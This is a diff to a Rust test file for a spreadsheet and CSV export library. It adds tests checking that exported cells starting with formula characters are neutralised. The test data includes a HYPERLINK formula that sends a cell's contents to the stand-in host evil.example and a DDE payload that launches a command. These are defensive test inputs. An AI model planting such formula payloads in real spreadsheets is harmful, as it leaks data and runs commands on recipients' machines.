@@ -607,7 +607,7 @@ fn bad_inputs_get_clerk_readable_errors() {
 
     let path = temp_file(&dir, "garbage.xlsx", b"PK\x03\x04not really a zip");
     let err = Table::open(&path).unwrap_err();
-    assert!(matches!(err, SheetError::Workbook { .. }), "{err:?}");
+    assert!(matches!(err, SheetError::NotExcel { .. }), "{err:?}");
     assert!(
         err.to_string()
             .starts_with("无法打开 Excel 文件 garbage.xlsx：")
@@ -743,5 +743,84 @@ fn writer_rejects_rows_wider_than_header() {
             TableWriter::create(dir.path().join(name), &[WriteColumn::text("名称")]).unwrap();
         let err = writer.write_row(["甲", "多余"]).unwrap_err();
         assert!(err.to_string().contains("第 2 行"), "{err}");
+    }
+}
+
+/// Values a spreadsheet would evaluate, one for each character that starts
+/// a formula, plus one already quoted.
+const FORMULAS: [&str; 7] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+];
+
+#[test]
+fn csv_exports_neutralise_formulas_in_every_column_kind() {
+    let dir = TempDir::new().unwrap();
+    let path = dir.path().join("inject.csv");
+    let columns = export_columns();
+    let mut writer = TableWriter::create(&path, &columns).unwrap();
+    for value in FORMULAS {
+        writer
+            .write_row(std::iter::repeat_n(value, columns.len()))
+            .unwrap();
+    }
+    // Legitimate numbers in the integer column stay numbers.
+    writer.write_row(["-", "-", "-", "", "-5", ""]).unwrap();
+    writer.finish().unwrap();
+
+    let bytes = std::fs::read(&path).unwrap();
+    let body = std::str::from_utf8(&bytes[3..]).unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(true)
+        .from_reader(body.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    for (row, value) in rows.iter().zip(FORMULAS) {
+        for field in row {
+            assert_eq!(field, format!("'{value}"), "{value:?}");
+        }
+    }
+    let last = &rows[FORMULAS.len()];
+    assert_eq!(&last[0], "'-", "text that looks like a sign is text");
+    assert_eq!(&last[4], "-5", "an integer stays a number");
+    // Neutralised fields are quoted, so the prefix and the value stay one
+    // cell whatever a spreadsheet trims.
+    assert!(body.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\","));
+    assert!(body.contains(",\"'-2+3\","));
+    assert!(body.contains("\"'\t=1+1\""));
+
+    // Imported back, the values are what was exported.
+    let mut table = Table::open(&path).unwrap();
+    let back = read_all(&mut table);
+    for ((_, cells), value) in back.iter().zip(FORMULAS) {
+        let expected = value.trim_start_matches(['\t', '\r']);
+        assert_eq!(cells[2], expected, "{value:?}");
+    }
+}
+
+#[test]
+fn xlsx_exports_write_formula_text_as_strings() {
+    let dir = TempDir::new().unwrap();
+    let path = dir.path().join("inject.xlsx");
+    let columns = export_columns();
+    let mut writer = TableWriter::create(&path, &columns).unwrap();
+    for value in FORMULAS {
+        writer
+            .write_row(std::iter::repeat_n(value, columns.len()))
+            .unwrap();
+    }
+    writer.finish().unwrap();
+    let xml = unzip_entry(&path, "xl/worksheets/sheet1.xml");
+    assert!(
+        !xml.contains("<f>") && !xml.contains("<f "),
+        "no formula cells"
+    );
+    let mut table = Table::open(&path).unwrap();
+    for ((_, cells), value) in read_all(&mut table).iter().zip(FORMULAS) {
+        assert_eq!(cells[0], value.trim_start_matches(['\t', '\r']));
     }
 }
